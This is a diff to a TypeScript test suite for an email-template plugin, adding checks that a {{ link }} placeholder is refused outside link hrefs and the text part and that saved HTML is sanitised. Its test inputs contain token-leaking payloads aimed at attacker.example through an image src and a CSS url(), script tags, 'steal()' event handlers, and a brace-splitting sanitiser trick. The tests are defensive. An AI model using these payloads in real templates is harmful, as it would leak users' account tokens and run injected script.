@@ -1,6 +1,6 @@
 import { bootStrapi, type TestApp } from '../helpers/strapi';
 import { createAdmin, createAdminRole, type AdminSession } from '../helpers/actors';
-import { waitForStatus, worker } from '../helpers/outbox';
+import { messageCount, waitForStatus, worker } from '../helpers/outbox';
 
 const mailer = (app: TestApp) => app.strapi.plugin('user-communication').service('mailer');
 
@@ -95,6 +95,114 @@ describe('templates', () => {
     expect((await api('get', '/templates/password-reset/en')).body.customized).toBe(false);
   });
 
+  describe('{{ link }} stands only in the text part and in the href of a link', () => {
+    const activation = {
+      subject: 'Activate your account',
+      html: '<p><a href="{{ link }}">Activate</a></p>',
+      text: 'Activate: {{ link }}',
+    };
+    const misplaced = [
+      ['the subject', { subject: 'Activate: {{link}}' }, 'subject', 'not in the subject'],
+      [
+        'an image',
+        { html: '<img src="https://attacker.example/p?{{   link }}">' },
+        'html',
+        'not in the src of <img>',
+      ],
+      [
+        'a CSS url()',
+        { html: '<td style="background:url(https://attacker.example/?{{ link }})">x</td>' },
+        'html',
+        'not in the style of <td>',
+      ],
+      ['the HTML text', { html: '<p>Copy {{ link }}</p>' }, 'html', 'not in the text of <p>'],
+      // Sanitising drops <blink> and so joins the braces into a placeholder.
+      [
+        'text that sanitising joins',
+        { html: '<p>{<blink></blink>{ link }}</p>' },
+        'html',
+        'not in the text of <p>',
+      ],
+    ] as const;
+
+    it.each(misplaced)(
+      'refuses to save it in %s, naming the place',
+      async (_label, edit, path, place) => {
+        const response = await api('put', '/templates/activation/en').send({
+          ...activation,
+          ...edit,
+        });
+        expect(response.status).toBe(400);
+        expect(response.body.error.name).toBe('ValidationError');
+        expect(response.body.error.message).toBe(
+          `{{ link }} may only be used in the text part and in the href of a link, ${place}`
+        );
+        expect(response.body.error.details.errors[0].path).toEqual([path]);
+        expect((await api('get', '/templates/activation/en')).body.customized).toBe(false);
+      }
+    );
+
+    it.each(misplaced)(
+      'refuses a draft with it in %s in preview and test-send',
+      async (_label, edit, path, place) => {
+        const queued = await messageCount(app, { type: 'test' });
+        for (const action of ['preview', 'test-send']) {
+          const response = await api('post', `/templates/password-reset/da/${action}`).send({
+            ...activation,
+            ...edit,
+          });
+          expect(response.status).toBe(400);
+          expect(response.body.error.message).toContain(place);
+          expect(response.body.error.details.errors[0].path).toEqual([path]);
+        }
+        expect(await messageCount(app, { type: 'test' })).toBe(queued);
+      }
+    );
+
+    it('saves it in the href of a link and anywhere in the text part', async () => {
+      const response = await api('put', '/templates/no-login-reminder/da').send({
+        subject: 'Kom tilbage',
+        html: '<p><a href="{{link}}">Fortsæt</a></p>',
+        text: '{{ link }}\n\nHej {{ username }}: {{ link }}',
+      });
+      expect(response.status).toBe(200);
+      await api('delete', '/templates/no-login-reminder/da');
+    });
+  });
+
+  it('stores the HTML sanitised, and sends what the preview shows', async () => {
+    const saved = await api('put', '/templates/activation/en').send({
+      subject: 'Activate your account',
+      html:
+        '<p onclick="steal()">Hello {{ username }}</p><script>steal()</script>' +
+        '<img src="https://attacker.example/p.png">' +
+        '<p><a href="{{ link }}" style="color:#4945ff;background:url(https://attacker.example/b)">Activate</a></p>',
+      text: 'Activate: {{ link }}',
+    });
+    expect(saved.status).toBe(200);
+    const clean = '<p>Hello {{ username }}</p><p><a href="{{ link }}">Activate</a></p>';
+    expect(saved.body.html).toBe(clean);
+    expect((await api('get', '/templates/activation/en')).body.html).toBe(clean);
+
+    const preview = await api('post', '/templates/activation/en/preview');
+    const email = 'jane.learner@example.com';
+    const { id } = await mailer(app).queueForUser({
+      type: 'activation',
+      user: { id: 4343, email, username: 'Jane Learner', locale: 'en' },
+      variables: {
+        link: 'https://learn.example.com/example-link#token=sample',
+        expiresInDays: 14,
+        expiresAt: '2026-01-15 06:00 UTC',
+      },
+      dedupeKey: 'sanitised-preview',
+    });
+    await worker(app).tick();
+    await waitForStatus(app, id, 'sent');
+    const mail = await app.mail.waitFor((m) => m.to.includes(email));
+    expect(mail.html).toBe(preview.body.html);
+    await api('delete', '/templates/activation/en');
+  });
+
   it('rejects an unknown type, a malformed locale and missing fields', async () => {
     expect((await api('get', '/templates/welcome/en')).status).toBe(400);
     expect((await api('get', '/templates/activation/english')).status).toBe(400);
@@ -103,7 +211,7 @@ describe('templates', () => {
     expect(missing.body.error.message).toMatch(/html|text/);
   });
 
-  it('previews a stored or draft template with sample data', async () => {
+  it('previews a stored or draft template with sample data, a draft sanitised as on save', async () => {
     const stored = await api('post', '/templates/no-login-reminder/da/preview');
     expect(stored.status).toBe(200);
     expect(stored.body.subject).toBe('Vi savner dig på Learning platform');
@@ -112,7 +220,7 @@ describe('templates', () => {
 
     const draft = await api('post', '/templates/no-login-reminder/en/preview').send({
       subject: 'Come back, {{ username }}',
-      html: '<b>{{ daysSinceLastLogin }}</b>',
+      html: '<b onmouseover="steal()">{{ daysSinceLastLogin }}</b><script>steal()</script>',
       text: '{{ daysSinceLastLogin }} days',
     });
     expect(draft.body).toEqual({
